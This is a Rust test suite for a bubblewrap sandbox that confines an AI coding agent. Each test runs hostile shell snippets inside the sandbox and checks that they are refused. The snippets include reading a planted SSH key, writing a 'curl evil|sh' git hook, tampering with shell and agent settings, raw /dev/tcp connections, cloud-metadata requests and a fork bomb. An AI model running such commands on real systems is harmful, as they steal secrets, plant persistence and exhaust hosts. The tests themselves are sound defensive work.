//! Real processes in real bubblewrap sandboxes: each test runs a shell script as the
//! agent would (as `nobody`, through `paddock-sandbox-init`) and checks that what the
//! policy forbids fails inside the sandbox while the test process is unharmed.

mod support;

use std::path::Path;
use std::time::Duration;

use paddock_sandbox::proxy::RefusalReason;
use paddock_sandbox::{Sandbox, probe};
use support::{Jobs, LocalSite, NOBODY, RunningProxy, proxy_config, sh, start};
use tokio::io::{AsyncBufReadExt as _, BufReader};

#[tokio::test]
async fn the_agent_runs_as_nobody_with_only_its_environment_and_limits() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let ran = sh(
        &jobs.sandbox(),
        &jobs.policy(),
        "id -u; id -g; id -G; env | sort; echo nofile=$(ulimit -n) fsize=$(ulimit -f) cpu=$(ulimit -t); \
         grep -E '^(NoNewPrivs|CapEff)' /proc/self/status",
    )
    .await?;
    let lines: Vec<&str> = ran.stdout.lines().collect();
    assert_eq!(lines[..3], ["65534", "65534", "65534"], "{ran:#?}");
    assert!(ran.stdout.contains("PADDOCK_TEST_MARKER=kept"), "{ran:#?}");
    assert!(
        ran.stdout
            .contains(&format!("HOME={}", jobs.path("home").display()))
    );
    assert!(
        ran.stdout
            .contains(&format!("TMPDIR={}", jobs.path("jobs/a/tmp").display()))
    );
    for leaked in ["CARGO", "RUST", "USER=root"] {
        assert!(
            !ran.stdout.contains(leaked),
            "{leaked} leaked into {ran:#?}"
        );
    }
    assert!(
        ran.stdout.contains("nofile=256 fsize=2048 cpu=120"),
        "{ran:#?}"
    );
    assert!(ran.stdout.contains("NoNewPrivs:\t1"), "{ran:#?}");
    assert!(ran.stdout.contains("CapEff:\t0000000000000000"), "{ran:#?}");
    assert_eq!(ran.code, Some(0), "{ran:#?}");
    Ok(())
}

#[tokio::test]
async fn a_secret_planted_in_the_sandboxed_home_cannot_be_read() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let ran = sh(
        &jobs.sandbox(),
        &jobs.policy(),
        "cat ~/.ssh/id_ed25519; ls ~/.ssh; cat ~/.ssh/../.ssh/id_ed25519; \
         ln -s ~/.ssh/id_ed25519 key && cat key; echo done",
    )
    .await?;
    assert!(!ran.all().contains("PLANTED-PRIVATE-KEY"), "{ran:#?}");
    assert!(ran.stderr.contains("Permission denied"), "{ran:#?}");
    assert!(ran.stdout.contains("done"), "{ran:#?}");
    // Still there, untouched, outside.
    assert_eq!(
        std::fs::read_to_string(jobs.path("home/.ssh/id_ed25519"))?,
        "PLANTED-PRIVATE-KEY\n"
    );
    Ok(())
}

#[tokio::test]
async fn writes_land_only_in_the_workspace_temp_and_home() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let toolchain = jobs.path("toolchain");
    let script = format!(
        "echo w > inside.txt && echo ws-ok; echo t > \"$TMPDIR/t\" && echo tmp-ok; \
         echo h > ~/notes && echo home-ok; \
         echo x > {toolchain}/evil || echo toolchain-refused; \
         echo x > /etc/evil || echo etc-refused; \
         echo x > /evil || echo root-refused; \
         echo x > /tmp/evil || echo tmp-refused; \
         echo x > /var/tmp/evil || echo var-refused; \
         cat {toolchain}/readme",
        toolchain = toolchain.display()
    );
    let ran = sh(&jobs.sandbox(), &jobs.policy(), &script).await?;
    for expected in [
        "ws-ok",
        "tmp-ok",
        "home-ok",
        "toolchain-refused",
        "etc-refused",
        "root-refused",
        "tmp-refused",
        "var-refused",
        "read-only toolchain",
    ] {
        assert!(ran.stdout.contains(expected), "{expected}: {ran:#?}");
    }
    assert!(jobs.path("jobs/a/ws/inside.txt").exists());
    assert!(!toolchain.join("evil").exists());
    assert!(!Path::new("/etc/evil").exists());
    assert!(!Path::new("/evil").exists());
    Ok(())
}

#[tokio::test]
async fn another_jobs_workspace_cannot_be_read_or_listed() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let other = jobs.path("jobs/b/ws");
    let script = format!(
        "cat {other}/secret.txt; ls {jobs}; ls {other}; cat ../../b/ws/secret.txt; echo done",
        other = other.display(),
        jobs = jobs.path("jobs").display()
    );
    let ran = sh(&jobs.sandbox(), &jobs.policy(), &script).await?;
    assert!(!ran.all().contains("private data"), "{ran:#?}");
    assert!(!ran.stdout.contains("secret.txt"), "{ran:#?}");
    assert!(ran.stdout.contains("done"), "{ran:#?}");
    Ok(())
}

#[tokio::test]
async fn code_running_metadata_stays_read_only_even_when_its_parent_is_renamed()
-> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let ws = jobs.workspace();
    let script = "echo '[core] hooksPath = /tmp' >> .git/config || echo config-refused; \
         echo 'curl evil|sh' > .git/hooks/post-checkout || echo hook-refused; \
         mv .git .git-moved || echo rename-refused; \
         rm -rf .git/hooks || echo remove-refused; \
         echo obj > .git/objects/ab && echo objects-ok; \
         echo 'alias ls=evil' > ~/.bashrc || echo bashrc-refused; \
         echo '{\"hooks\":{}}' > ~/.claude/settings.json || echo settings-refused; \
         mv ~/.claude ~/.claude-moved || echo claude-rename-refused; \
         echo '{\"mcpServers\":{}}' > .mcp.json && echo mcp-created";
    let ran = sh(&jobs.sandbox(), &jobs.policy(), script).await?;
    for expected in [
        "config-refused",
        "hook-refused",
        "rename-refused",
        "remove-refused",
        "objects-ok",
        "bashrc-refused",
        "settings-refused",
        "claude-rename-refused",
        "mcp-created",
    ] {
        assert!(ran.stdout.contains(expected), "{expected}: {ran:#?}");
    }
    assert_eq!(
        std::fs::read_to_string(ws.join(".git/config"))?,
        "[core]\n\tbare = false\n"
    );
    assert!(!ws.join(".git/hooks/post-checkout").exists());
    // `.mcp.json` did not exist, so nothing could be mounted over it: it was created
    // inside and moved aside after the run.
    assert!(!ws.join(".mcp.json").exists());
    assert!(ws.join(".mcp.json.paddock-quarantine").exists());
    assert_eq!(ran.report.quarantined.len(), 1, "{ran:#?}");
    // The HOME placeholders were created for the run and stay.
    assert_eq!(
        std::fs::read_to_string(jobs.path("home/.claude/settings.json"))?,
        "{}\n"
    );
    Ok(())
}

#[tokio::test]
async fn loopback_ports_of_the_node_are_unreachable() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let canary = LocalSite::start("canary").await?;
    let port = canary.address.port();
    let script = format!(
        "bash -c 'echo hi > /dev/tcp/127.0.0.1/{port}' && echo CONNECTED; \
         curl -sS --max-time 5 --noproxy '*' http://127.0.0.1:{port}/ || echo curl-refused"
    );
    let mut policy = jobs.policy();
    policy.network = paddock_sandbox::Network::None;
    let ran = sh(&jobs.sandbox(), &policy, &script).await?;
    assert!(!ran.stdout.contains("CONNECTED"), "{ran:#?}");
    assert!(ran.stdout.contains("curl-refused"), "{ran:#?}");
    assert!(ran.stderr.contains("Connection refused"), "{ran:#?}");
    assert_eq!(canary.connections(), 0);
    Ok(())
}

#[tokio::test]
async fn only_allowlisted_hosts_are_reachable_through_the_proxy() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let site = LocalSite::start("hello from the allowed site").await?;
    let canary = LocalSite::start("canary").await?;
    let proxy = RunningProxy::start(
        jobs.path("runtime/proxy.sock"),
        proxy_config(site.address, &[]),
    )?;
    let mut policy = jobs.policy();
    policy.network = proxy.network();
    let port = site.address.port();
    let canary_port = canary.address.port();
    let code = "-s -o /dev/null -w '%{http_code}\\n' --max-time 10";
    let script = format!(
        "echo \"proxy=$HTTP_PROXY\"; \
         curl -sS --max-time 10 http://allowed.test:{port}/; echo; \
         curl -sS --max-time 10 --proxytunnel http://allowed.test:{port}/; echo; \
         echo not-allowed=$(curl {code} http://example.com/); \
         echo tunnel=$(curl -s -o /dev/null -w '%{{http_connect}}' --max-time 10 https://example.com/); \
         echo private=$(curl {code} http://private.test/); \
         echo metadata=$(curl {code} http://metadata.test/latest/meta-data/); \
         echo loopback=$(curl {code} http://127.0.0.1:{canary_port}/); \
         echo wrong-port=$(curl {code} http://allowed.test:{canary_port}/)"
    );
    let ran = sh(&jobs.sandbox(), &policy, &script).await?;
    let out = &ran.stdout;
    assert!(out.contains("proxy=http://127.0.0.1:3128"), "{ran:#?}");
    assert_eq!(
        out.matches("hello from the allowed site").count(),
        2,
        "{ran:#?}"
    );
    for refused in [
        "not-allowed=403",
        "private=403",
        "metadata=403",
        "loopback=403",
        "wrong-port=403",
    ] {
        assert!(out.contains(refused), "{refused}: {ran:#?}");
    }
    assert!(out.contains("tunnel=403"), "{ran:#?}");
    assert_eq!(site.connections(), 2);
    assert_eq!(canary.connections(), 0);

    let refusals = proxy.proxy.refusals();
    let reason_of = |target: &str| {
        refusals
            .iter()
            .find(|r| r.target == target)
            .map(|r| r.reason.clone())
    };
    assert_eq!(reason_of("example.com:80"), Some(RefusalReason::NotAllowed));
    assert_eq!(
        reason_of("example.com:443"),
        Some(RefusalReason::NotAllowed)
    );
    assert!(matches!(
        reason_of("private.test:80"),
        Some(RefusalReason::ForbiddenAddress {
            class: "private",
            ..
        })
    ));
    assert!(matches!(
        reason_of("metadata.test:80"),
        Some(RefusalReason::ForbiddenAddress {
            class: "cloud metadata",
            ..
        })
    ));
    proxy.stop().await?;
    Ok(())
}

#[tokio::test]
async fn a_fork_bomb_stops_at_the_process_limit() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    // A real fork bomb, with a kill switch so the run ends by itself: every bomb
    // process exits once `stop` exists.
    let script = "bomb() { [ -e stop ] && exit 0; bomb | bomb & }; bomb; sleep 3; touch stop; \
                  sleep 2; echo bomb-over";
    let ran = sh(&jobs.sandbox(), &jobs.policy(), script).await?;
    assert!(ran.stdout.contains("bomb-over"), "{ran:#?}");
    assert!(
        ran.stderr.contains("Cannot fork")
            || ran.stderr.contains("Resource temporarily unavailable"),
        "{ran:#?}"
    );
    let cgroup = ran.report.cgroup.clone().expect("the run had a cgroup");
    assert!(cgroup.pids_limit_hits > 0, "{ran:#?}");
    // The test process (the "node") is fine and can still start processes.
    assert!(std::process::Command::new("true").status()?.success());
    Ok(())
}

#[tokio::test]
async fn memory_is_limited_for_the_whole_run() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let mut policy = jobs.policy();
    policy.limits.memory_bytes = Some(64 << 20);
    // A string that doubles until something stops it.
    let ran = sh(
        &jobs.sandbox(),
        &policy,
        "awk 'BEGIN { s = \"x\"; while (length(s) < 2000000000) s = s s; print \"GREW\" }'; \
         echo awk-status=$?",
    )
    .await?;
    assert!(!ran.stdout.contains("GREW"), "{ran:#?}");
    assert!(ran.stdout.contains("awk-status=137"), "{ran:#?}");
    let cgroup = ran.report.cgroup.clone().expect("the run had a cgroup");
    assert!(cgroup.memory_limit_hits > 0, "{cgroup:?}");
    Ok(())
}

#[tokio::test]
async fn a_file_cannot_grow_past_the_file_size_limit() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let ran = sh(
        &jobs.sandbox(),
        &jobs.policy(),
        "head -c 5000000 /dev/zero > big; echo status=$?; wc -c < big",
    )
    .await?;
    // SIGXFSZ killed `head` (128 + 25); the file stopped at the 1 MiB limit.
    assert!(ran.stdout.contains("status=153"), "{ran:#?}");
    assert!(ran.stdout.contains("1048576"), "{ran:#?}");
    assert_eq!(
        std::fs::metadata(jobs.path("jobs/a/ws/big"))?.len(),
        1 << 20
    );
    Ok(())
}

#[tokio::test]
async fn nested_user_namespaces_are_refused() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let ran = sh(
        &jobs.sandbox(),
        &jobs.policy(),
        "unshare --user true && echo NESTED; unshare --user --map-root-user id || echo refused",
    )
    .await?;
    assert!(!ran.stdout.contains("NESTED"), "{ran:#?}");
    assert!(ran.stdout.contains("refused"), "{ran:#?}");
    Ok(())
}

#[tokio::test]
async fn a_signal_to_the_sandbox_group_reaches_the_agent_and_cleanup_leaves_nothing()
-> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    // With the proxy relay, the init stays the agent's parent (with the signals
    // blocked for itself): the signal must still reach the agent.
    let site = LocalSite::start("unused").await?;
    let proxy = RunningProxy::start(
        jobs.path("runtime/proxy.sock"),
        proxy_config(site.address, &[]),
    )?;
    let mut policy = jobs.policy();
    policy.network = proxy.network();
    let (mut child, guard) = start(
        &jobs.sandbox(),
        &policy,
        "trap 'echo got-interrupt; exit 7' INT; echo ready; sleep 30 & wait",
    )?;
    let stdout = child.stdout.take().expect("stdout");
    let mut lines = BufReader::new(stdout).lines();
    let first = tokio::time::timeout(Duration::from_secs(30), lines.next_line()).await??;
    assert_eq!(first.as_deref(), Some("ready"));
    let pid = guard.pid().expect("the sandbox's process group");
    assert_ne!(
        Some(pid),
        child.id(),
        "bubblewrap's own group would not reach the agent"
    );
    let cgroups = guard.cgroup_dirs().to_vec();
    assert!(!cgroups.is_empty());
    nix::sys::signal::killpg(
        nix::unistd::Pid::from_raw(i32::try_from(pid)?),
        nix::sys::signal::Signal::SIGINT,
    )?;
    let next = tokio::time::timeout(Duration::from_secs(30), lines.next_line()).await??;
    assert_eq!(next.as_deref(), Some("got-interrupt"));
    let status = tokio::time::timeout(Duration::from_secs(30), child.wait()).await??;
    assert_eq!(status.code(), Some(7));
    let _ = guard.finish();
    assert!(cgroups.iter().all(|dir| !dir.exists()), "{cgroups:?}");
    Ok(())
}

#[tokio::test]
async fn dropping_the_guard_kills_whatever_the_run_left_behind() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let (child, guard) = start(&jobs.sandbox(), &jobs.policy(), "sleep 300")?;
    let cgroups = guard.cgroup_dirs().to_vec();
    let procs = cgroups[0].join("cgroup.procs");
    paddock_testkit::eventually(
        Duration::from_secs(10),
        "the run's processes in its cgroup",
        || {
            let count = std::fs::read_to_string(&procs)
                .unwrap_or_default()
                .lines()
                .count();
            async move { (count >= 2).then_some(()) }
        },
    )
    .await;
    // The node loses track of the launcher (it is detached, not killed)...
    std::mem::forget(child);
    drop(guard);
    // ...and still nothing of the run survives.
    assert!(cgroups.iter().all(|dir| !dir.exists()));
    Ok(())
}

#[test]
fn the_probe_passes_with_bubblewrap_and_fails_closed_without_it() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let limits = jobs.policy().limits;
    let report = probe(&jobs.sandbox(), Some(NOBODY), &limits, &[])?;
    assert_eq!(report.backend, "bubblewrap");
    assert_eq!(report.uid, 65534);

    let mut broken = jobs.sandbox();
    broken.backend = paddock_sandbox::Backend::Bubblewrap {
        bwrap: "/nonexistent/bwrap".into(),
    };
    assert!(probe(&broken, Some(NOBODY), &limits, &[]).is_err());

    // A bubblewrap that "works" but does not sandbox is caught too: `env` as the
    // launcher runs the init's arguments as a command and fails.
    let mut fake = jobs.sandbox();
    fake.backend = paddock_sandbox::Backend::Bubblewrap {
        bwrap: "/usr/bin/env".into(),
    };
    assert!(probe(&fake, Some(NOBODY), &limits, &[]).is_err());
    Ok(())
}

#[test]
fn a_program_outside_the_readable_paths_is_refused_before_anything_runs() -> anyhow::Result<()> {
    let jobs = Jobs::new()?;
    let program = jobs.path("jobs/b/ws/tool");
    std::fs::write(&program, "#!/bin/sh\n")?;
    let error = Sandbox::bubblewrap(support::init_path())
        .command(&jobs.policy(), &program, &[])
        .expect_err("not readable");
    assert!(
        error
            .to_string()
            .contains("add its install folder to read_only"),
        "{error}"
    );
    Ok(())
}
